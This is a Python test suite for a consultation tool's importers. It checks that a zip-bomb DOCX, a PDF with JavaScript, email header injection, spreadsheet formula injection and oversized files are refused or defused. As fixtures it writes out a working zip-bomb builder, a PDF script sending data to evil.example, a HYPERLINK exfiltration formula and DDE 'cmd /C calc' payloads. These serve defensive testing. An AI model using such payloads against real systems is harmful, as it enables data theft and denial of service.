# SPDX-License-Identifier: EUPL-1.2
"""Hostile input for every importer: a clear refusal or a safe result, never a half import.

The cases of issue 7: a zip bomb DOCX, a PDF carrying JavaScript, an e-mail with a
50 MB attachment, header injection, a formula-injection spreadsheet and a CSV with
a million rows. Each test first stores some data through an ordinary import and
checks afterwards that it is still there, unchanged.
"""

from __future__ import annotations

import base64
import csv
import io
import socket
import struct
import subprocess
import tracemalloc
import zipfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from django.conf import settings
from django.template.defaultfilters import filesizeformat
from openpyxl import Workbook

from inspraak.cli import main
from inspraak.consultations.models import Consultation, Contribution, Participant, Round
from inspraak.core.models import AuditEvent
from inspraak.intake.csv.services import contributions_import_csv
from inspraak.intake.documents.services import document_import, document_read
from inspraak.intake.files import FileRejected
from inspraak.intake.mail.services import (
    MailFileRejected,
    MailRejected,
    mail_import_file,
    mail_import_message,
)
from inspraak.intake.sheets.services import Mapping, sheet_import, sheet_read
from tests.intake.mailhelpers import DOCX_TYPE, make_docx, make_message

pytestmark = pytest.mark.django_db

BOMB_BYTES = 256 * 1024 * 1024  # what document.xml unpacks to: more than any limit allows
MB = 1024 * 1024


# -- what is already stored must survive -------------------------------------------------


def snapshot() -> dict[str, Any]:
    """Everything an import may write, down to each contribution's text and provenance."""
    return {
        "consultations": sorted(Consultation.objects.values_list("slug", flat=True)),
        "rounds": Round.objects.count(),
        "participants": sorted(Participant.objects.values_list("pk", "pseudonym", "email")),
        "contributions": sorted(
            Contribution.objects.values_list(
                "pk", "text", "session_id", "participant_id", "source_name", "source_detail"
            )
        ),
        "audit": AuditEvent.objects.count(),
    }


@pytest.fixture
def consultation(make_consultation: Any) -> Consultation:
    """A consultation with contributions already imported from a CSV file."""
    consultation = make_consultation(sessions=("Zorg", "Groen"))
    data = (
        b"session,participant,text\n"
        b"Zorg,Anna,Meer handen aan het bed\n"
        b"Groen,Bram,Bomen in elke straat\n"
    )
    result = contributions_import_csv(data=data, file_name="eerder.csv", consultation=consultation)
    assert result.created == 2
    return consultation


@pytest.fixture
def no_escape(monkeypatch: pytest.MonkeyPatch) -> None:
    """Fail on any attempt to reach the network or start a program while importing."""

    def refused(*args: Any, **kwargs: Any) -> None:
        raise AssertionError(f"an importer tried to connect or run something: {args!r}")

    monkeypatch.setattr(socket.socket, "connect", refused)
    monkeypatch.setattr(socket, "create_connection", refused)
    monkeypatch.setattr(subprocess.Popen, "__init__", refused)


# -- a zip bomb DOCX ---------------------------------------------------------------------


def docx_bomb(unpacked: int = BOMB_BYTES, *, lie: bool = False) -> bytes:
    """A real DOCX whose word/document.xml inflates to `unpacked` bytes, built in chunks.

    With `lie`, the zip's headers claim document.xml is 2 kB, as a hand-made bomb would.
    """
    source = make_docx(["Inhoud"], heading="Sessie Zorg")
    out = io.BytesIO()
    head = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>"
    )
    tail = b"</w:t></w:r></w:p></w:body></w:document>"
    chunk = b"a" * MB
    with (
        zipfile.ZipFile(io.BytesIO(source)) as original,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb,
    ):
        for info in original.infolist():
            if info.filename != "word/document.xml":
                bomb.writestr(info.filename, original.read(info))
        with bomb.open("word/document.xml", "w") as member:
            member.write(head)
            for _ in range((unpacked - len(head) - len(tail)) // MB):
                member.write(chunk)
            member.write(tail)
    data = bytearray(out.getvalue())
    if lie:
        with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
            info = archive.getinfo("word/document.xml")
        struct.pack_into("<I", data, info.header_offset + 22, 2048)  # local file header
        name = b"word/document.xml"
        central = data.rfind(b"PK\x01\x02", 0, data.rfind(name))
        struct.pack_into("<I", data, central + 24, 2048)  # central directory entry
    return bytes(data)


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return docx_bomb()


def test_zip_bomb_docx_is_refused_before_it_is_unpacked(
    consultation: Consultation, bomb: bytes
) -> None:
    assert len(bomb) < 2 * MB  # small on disk, 256 MB unpacked
    before = snapshot()
    tracemalloc.start()
    try:
        with pytest.raises(FileRejected) as refused:
            document_read(data=bomb, file_name="bom.docx")
        _size, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "unpacks to more than the limit" in str(refused.value)
    assert peak < 32 * MB, "the bomb was unpacked before it was refused"
    assert snapshot() == before


def test_zip_bomb_whose_headers_lie_about_its_size_is_refused_safely(
    consultation: Consultation,
) -> None:
    lying = docx_bomb(64 * MB, lie=True)
    before = snapshot()
    with pytest.raises(FileRejected) as refused:
        document_read(data=lying, file_name="bom.docx")
    assert "damaged" in str(refused.value)
    assert snapshot() == before


def test_zip_bomb_as_xlsx_is_refused(consultation: Consultation, bomb: bytes) -> None:
    before = snapshot()
    with pytest.raises(FileRejected, match="unpacks to more than the limit"):
        sheet_read(data=bomb, file_name="bom.xlsx")
    assert snapshot() == before


def test_zip_bomb_attached_to_an_email_is_left_out_and_the_message_imported(
    consultation: Consultation, bomb: bytes
) -> None:
    before = snapshot()
    raw = make_message(
        body="Graag meer aandacht voor mantelzorgers.",
        attachments=(("bom.docx", bomb, DOCX_TYPE),),
    )
    result = mail_import_message(consultation=consultation, raw=raw)
    assert result.created == 1
    assert any("unpacks to more than 50 MB" in warning for warning in result.warnings)
    new = Contribution.objects.exclude(pk__in=[c[0] for c in before["contributions"]])
    assert [c.text for c in new] == ["Graag meer aandacht voor mantelzorgers."]
    assert snapshot()["contributions"][: len(before["contributions"])] == before["contributions"]


# -- a PDF with JavaScript ---------------------------------------------------------------

SCRIPT = 'app.launchURL("https://evil.example/steal?c=" + this.info.Title, true);'


def pdf_with_javascript() -> bytes:
    """A hand-written PDF that runs JavaScript on opening, on a page and from a link."""
    js = SCRIPT.replace("(", r"\(").replace(")", r"\)")
    text = "BT /F1 12 Tf 72 770 Td (Sessie Zorg) Tj 0 -18 Td (Meer handen aan het bed.) Tj ET"
    objects = [
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R "
        "/Names << /JavaScript << /Names [(steal) 6 0 R] >> >> /AcroForm << /Fields [] >> >>",
        "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        "/Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R "
        "/AA << /O 6 0 R >> /Annots [7 0 R] >>",
        f"<< /Length {len(text)} >>\nstream\n{text}\nendstream",
        f"<< /Type /Action /S /JavaScript /JS ({js}) >>",
        "<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A 6 0 R >>",
    ]
    out = b"%PDF-1.7\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += "".join(f"{offset:010d} 00000 n \n" for offset in offsets).encode()
    trailer = f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n"
    return out + trailer.encode()


def no_script_stored() -> None:
    for text, detail in Contribution.objects.values_list("text", "source_detail"):
        for trace in ("launchURL", "evil.example", "JavaScript", "this.info"):
            assert trace not in text and trace not in detail


def test_pdf_with_javascript_imports_its_text_and_never_the_script(
    consultation: Consultation, no_escape: None
) -> None:
    data = pdf_with_javascript()
    assert b"/OpenAction" in data and b"/JavaScript" in data
    before = snapshot()
    document = document_read(data=data, file_name="verslag.pdf")
    assert [p.text for _s, p in document.points()] == ["Meer handen aan het bed."]
    result = document_import(document=document, consultation=consultation)
    assert result.created == 1
    no_script_stored()
    after = snapshot()
    assert after["contributions"][: len(before["contributions"])] == before["contributions"]


def test_pdf_with_javascript_attached_to_an_email_gives_only_its_text(
    consultation: Consultation, no_escape: None
) -> None:
    raw = make_message(
        body="Zie bijlage.",
        attachments=(("verslag.pdf", pdf_with_javascript(), "application/pdf"),),
    )
    result = mail_import_message(consultation=consultation, raw=raw)
    assert result.created >= 1
    texts = list(Contribution.objects.filter(channel="email").values_list("text", flat=True))
    assert any("Meer handen aan het bed." in text for text in texts)
    no_script_stored()


# -- an e-mail with a 50 MB attachment ---------------------------------------------------


def write_big_mail(path: Path, attachment_bytes: int = 50 * MB, *, mbox: bool = False) -> None:
    """A message with an attachment of `attachment_bytes`, written line by line (base64)."""
    with path.open("wb") as out:
        if mbox:
            out.write(b"From anna@example.org Thu Jan  1 00:00:00 2026\n")
            out.write(make_message(body="Een gewoon bericht.").replace(b"\r\n", b"\n"))
            out.write(b"\nFrom anna@example.org Thu Jan  1 00:00:01 2026\n")
        out.write(
            b"From: Anna <anna@example.org>\n"
            b"To: inspraak@partij.example\n"
            b"Subject: Grote bijlage\n"
            b"Message-ID: <groot@example.org>\n"
            b"MIME-Version: 1.0\n"
            b'Content-Type: multipart/mixed; boundary="grens"\n\n'
            b"--grens\nContent-Type: text/plain; charset=utf-8\n\n"
            b"Mijn punt staat in de bijlage.\n"
            b"--grens\nContent-Type: application/pdf\n"
            b'Content-Disposition: attachment; filename="groot.pdf"\n'
            b"Content-Transfer-Encoding: base64\n\n"
        )
        line = base64.b64encode(b"%PDF" + bytes(53)) + b"\n"  # 57 bytes → one 76-character line
        for _ in range(attachment_bytes // 57):
            out.write(line)
        out.write(b"--grens--\n")


def size_problem(size: int) -> str:
    limit = settings.INSPRAAK_IMPORT_MAX_BYTES
    return f"the message is {filesizeformat(size)}; the limit is {filesizeformat(limit)}"


def test_email_with_a_50_mb_attachment_is_refused_without_reading_it(
    consultation: Consultation, tmp_path: Path
) -> None:
    path = tmp_path / "groot.eml"
    write_big_mail(path)
    assert path.stat().st_size > 50 * MB
    before = snapshot()
    tracemalloc.start()
    try:
        with pytest.raises(MailFileRejected) as refused:
            mail_import_file(path=path, consultation=consultation)
        _size, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 8 * MB, "the message was read before its size was checked"
    assert str(refused.value) == f"groot.eml: {size_problem(path.stat().st_size)}"
    assert snapshot() == before


def test_email_with_a_50_mb_attachment_in_a_mailbox_file_stores_nothing(
    consultation: Consultation, tmp_path: Path
) -> None:
    path = tmp_path / "inbox.mbox"
    write_big_mail(path, mbox=True)
    before = snapshot()
    with pytest.raises(MailFileRejected) as refused:
        mail_import_file(path=path, consultation=consultation)
    assert len(refused.value.problems) == 1
    assert refused.value.problems[0].startswith("message 2: the message is 67.")
    assert snapshot() == before  # the ordinary first message is not imported either


def test_email_with_a_50_mb_attachment_is_refused_as_raw_bytes(
    consultation: Consultation, tmp_path: Path
) -> None:
    path = tmp_path / "groot.eml"
    write_big_mail(path)
    before = snapshot()
    with pytest.raises(MailRejected, match="the limit is"):
        mail_import_message(consultation=consultation, raw=path.read_bytes())
    assert snapshot() == before


def test_cli_reports_the_50_mb_email_clearly(consultation: Consultation, tmp_path: Path) -> None:
    path = tmp_path / "groot.eml"
    write_big_mail(path)
    before = snapshot()
    result = CliRunner().invoke(
        main, ["import", "mail", str(path), "--consultation", consultation.slug]
    )
    assert result.exit_code == 1
    assert f"groot.eml: {size_problem(path.stat().st_size)}" in result.output
    assert snapshot() == before


# -- header injection --------------------------------------------------------------------


def encoded(text: str) -> str:
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


def injected_message(**headers: str) -> bytes:
    lines = {
        "From": encoded("Anna\tBcc: burgemeester@gemeente.example") + " <anna@example.org>",
        "To": "inspraak@partij.example",
        "Subject": encoded(
            "Mijn punten\r\nBcc: iedereen@example.org\r\nTo: inspraak+groen@partij.example"
        ),
        "Message-ID": "<injectie@example.org>",
        "Date": "Mon, 2 Mar 2026 10:00:00 +0100",
        **headers,
    }
    head = "".join(f"{name}: {value}\r\n" for name, value in lines.items())
    body = "- Meer handen aan het bed\r\n- Kortere wachtlijsten\r\n"
    return (head + "Content-Type: text/plain; charset=utf-8\r\n\r\n" + body).encode()


def test_header_injection_stays_one_line_of_text_and_changes_no_sender_or_route(
    consultation: Consultation,
) -> None:
    before = snapshot()
    result = mail_import_message(consultation=consultation, raw=injected_message())
    assert (result.created, result.session, result.routed_by) == (2, None, "only round")
    new = Contribution.objects.exclude(pk__in=[c[0] for c in before["contributions"]])
    for contribution in new:
        for value in (contribution.text, contribution.source_detail, contribution.source_name):
            assert "\r" not in value and "\n" not in value
        assert not contribution.source_detail.startswith(("Bcc", "To", "From"))
        assert "burgemeester" not in contribution.text
    participant = new[0].participant
    assert participant.email == "anna@example.org"  # not the injected "From"
    assert sorted(c.text for c in new) == ["Kortere wachtlijsten", "Meer handen aan het bed"]
    assert snapshot()["contributions"][: len(before["contributions"])] == before["contributions"]


def test_a_sender_name_carrying_a_new_line_is_refused_clearly(consultation: Consultation) -> None:
    before = snapshot()
    raw = injected_message(
        From=encoded("Anna\r\nFrom: burgemeester@gemeente.example") + " <anna@example.org>"
    )
    with pytest.raises(MailRejected, match="no valid sender"):
        mail_import_message(consultation=consultation, raw=raw)
    assert snapshot() == before


def test_message_id_cannot_route_a_message_or_inject_a_header(consultation: Consultation) -> None:
    raw = injected_message(
        **{
            "Subject": "Gewoon een onderwerp",
            "Message-ID": "<[Groen]+groen@evil.example> "
            + encoded("\r\nTo: inspraak+groen@partij.example"),
        }
    )
    result = mail_import_message(consultation=consultation, raw=raw)
    assert (result.session, result.routed_by) == (None, "only round")
    for name, detail in Contribution.objects.filter(channel="email").values_list(
        "source_name", "source_detail"
    ):
        assert "\n" not in name and "\r" not in name and "\n" not in detail


def test_a_forged_message_id_of_an_earlier_message_adds_nothing_and_loses_nothing(
    consultation: Consultation,
) -> None:
    mail_import_message(consultation=consultation, raw=injected_message())
    before = snapshot()
    forged = injected_message(From="Mallory <mallory@evil.example>").replace(
        b"Meer handen aan het bed", b"Alles moet anders"
    )
    result = mail_import_message(consultation=consultation, raw=forged)
    assert (result.duplicate, result.created) == (True, 0)
    after = snapshot()
    assert after["audit"] == before["audit"] + 1  # the attempt is on record
    assert {**after, "audit": 0} == {**before, "audit": 0}


def test_a_bare_carriage_return_ends_the_subject_and_is_never_stored(
    consultation: Consultation,
) -> None:
    # A bare CR ends a header line, as a mail server reads it: what follows is a header of
    # the sender's own message (routing by To is the sender's choice anyway), never text.
    raw = injected_message(Subject="Gewoon\rX-Injected: ja")
    result = mail_import_message(consultation=consultation, raw=raw)
    assert result.created == 2
    details = Contribution.objects.filter(channel="email").values_list("source_detail", flat=True)
    assert {detail.split(" · ")[0] for detail in details} == {"Gewoon"}


# -- a formula-injection spreadsheet -----------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
]


def formula_workbook(*, as_formulas: bool = False) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(["Inbreng", "Naam", "Tafel"])
    for n, text in enumerate(FORMULAS):
        sheet.append([text, f'=CONCAT("p",{n})' if n == 0 else f"p{n}", "=Zorg" if n else "Zorg"])
    if not as_formulas:  # what a participant typed: text that only looks like a formula
        for row in sheet.iter_rows():
            for cell in row:
                cell.data_type = "s"
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


MAPPING = Mapping(text="Inbreng", participant="Naam", session="Tafel")


def export_csv(slug: str) -> list[dict[str, str]]:
    result = CliRunner().invoke(main, ["export", "--consultation", slug, "--format", "csv"])
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.output)))


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_formula_cells_are_imported_as_text_and_exported_defused(
    consultation: Consultation, kind: str
) -> None:
    before = snapshot()
    if kind == "xlsx":
        data = formula_workbook()
    else:
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow(["Inbreng", "Naam", "Tafel"])
        writer.writerows([text, f"p{n}", "=Zorg"] for n, text in enumerate(FORMULAS))
        data = out.getvalue().encode()
    table = sheet_read(data=data, file_name=f"afdeling.{kind}")
    result = sheet_import(table=table, mapping=MAPPING, consultation=consultation)
    assert result.created == len(FORMULAS)
    stored = Contribution.objects.filter(channel="spreadsheet")
    assert sorted(stored.values_list("text", flat=True)) == sorted(FORMULAS)  # plain text
    rows = export_csv(consultation.slug)
    exported = {row["text"] for row in rows if row["channel"] == "spreadsheet"}
    assert exported == {"'" + text for text in FORMULAS}
    sessions = {row["session"] for row in rows if row["channel"] == "spreadsheet"}
    assert sessions <= {"Zorg", "'=Zorg"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value
    assert snapshot()["contributions"][: len(before["contributions"])] == before["contributions"]


def test_real_formula_cells_are_never_imported_as_formulas(consultation: Consultation) -> None:
    before = snapshot()
    table = sheet_read(data=formula_workbook(as_formulas=True), file_name="afdeling.xlsx")
    # A formula cell is read as its computed value; a workbook saved without one reads as
    # empty, never as the formula. Rows left without text refuse the whole import.
    assert not any(cell.startswith("=") for _n, cells in table.rows for cell in cells)
    with pytest.raises(FileRejected) as refused:
        sheet_import(table=table, mapping=MAPPING, consultation=consultation)
    places = {(problem.line, problem.column) for problem in refused.value.problems}
    assert {(2, "Inbreng"), (2, "Naam"), (6, "Inbreng"), (3, "Tafel")} <= places
    assert snapshot() == before


# -- a CSV with a million rows -----------------------------------------------------------


# A post-it as people write them: a sentence or two (the founding document's are 60-200 characters).
POSTIT = (
    "meer groen en minder verkeer in de wijk, met bankjes in de schaduw "
    "en een plek waar kinderen veilig kunnen spelen"
)


def write_csv(path: Path, rows: int, *, bad_last_row: bool = False) -> None:
    """`rows` contributions written in batches, never the whole file in memory."""
    with path.open("w", encoding="utf-8", newline="") as out:
        out.write("session,participant,text\n")
        batch = 10_000
        for start in range(0, rows, batch):
            out.writelines(
                f'Sessie {n % 7},deelnemer {n % 997},"Punt {n}: {POSTIT}"\n'
                for n in range(start, min(start + batch, rows))
            )
        if bad_last_row:
            out.write("Zorg,,een rij zonder deelnemer\n")


def test_csv_with_a_million_rows_is_refused_by_the_size_limit(
    consultation: Consultation, tmp_path: Path
) -> None:
    path = tmp_path / "miljoen.csv"
    write_csv(path, 1_000_000)
    assert path.stat().st_size > settings.INSPRAAK_IMPORT_MAX_BYTES
    before = snapshot()
    result = CliRunner().invoke(
        main, ["import", "contributions", str(path), "--consultation", consultation.slug]
    )
    assert result.exit_code == 1
    assert "miljoen.csv:0: -: the file is" in result.output
    assert f"the limit is {settings.INSPRAAK_IMPORT_MAX_BYTES / MB:.1f}\xa0MB" in result.output
    assert "nothing imported" in result.output
    with pytest.raises(FileRejected, match="the limit is"):
        sheet_read(data=path.read_bytes(), file_name="miljoen.csv")
    assert snapshot() == before


def test_csv_just_under_the_limit_imports_atomically(
    consultation: Consultation, tmp_path: Path
) -> None:
    row_bytes = len(f'Sessie 0,deelnemer 0,"Punt 100000: {POSTIT}"\n')
    rows = int(settings.INSPRAAK_IMPORT_MAX_BYTES * 0.98) // row_bytes
    path = tmp_path / "groot.csv"
    write_csv(path, rows, bad_last_row=True)
    assert 0.9 < path.stat().st_size / settings.INSPRAAK_IMPORT_MAX_BYTES < 1
    before = snapshot()

    with pytest.raises(FileRejected) as refused:  # one bad row at the very end: nothing stored
        contributions_import_csv(
            data=path.read_bytes(), file_name=path.name, consultation=consultation
        )
    assert [(p.line, p.column) for p in refused.value.problems] == [(rows + 2, "participant")]
    assert snapshot() == before

    write_csv(path, rows)
    result = contributions_import_csv(
        data=path.read_bytes(), file_name=path.name, consultation=consultation
    )
    assert (result.created, result.skipped) == (rows, 0)
    assert Contribution.objects.count() == len(before["contributions"]) + rows
    after = snapshot()
    assert after["contributions"][: len(before["contributions"])] == before["contributions"]


@pytest.mark.django_db
def test_nul_and_control_characters_never_reach_the_database(make_consultation: Any) -> None:
    """PostgreSQL refuses NUL in text; found by the fuzzer on PostgreSQL only."""
    from inspraak.consultations.models import Contribution, Session
    from inspraak.intake.documents.services import document_import, document_read

    consultation = make_consultation()
    raw = b"# Verslag\n\n## Sessie Zo\x00rg\n\nMeer pre\x00ventie\x07 voor iedereen.\n"
    document_import(document=document_read(data=raw, file_name="nul.md"), consultation=consultation)
    stored = Contribution.objects.get(channel="document")
    assert stored.text == "Meer preventie voor iedereen."
    assert (
        Session.objects.filter(title="Sessie Zorg").exists()
        or Session.objects.filter(title="Zorg").exists()
    )
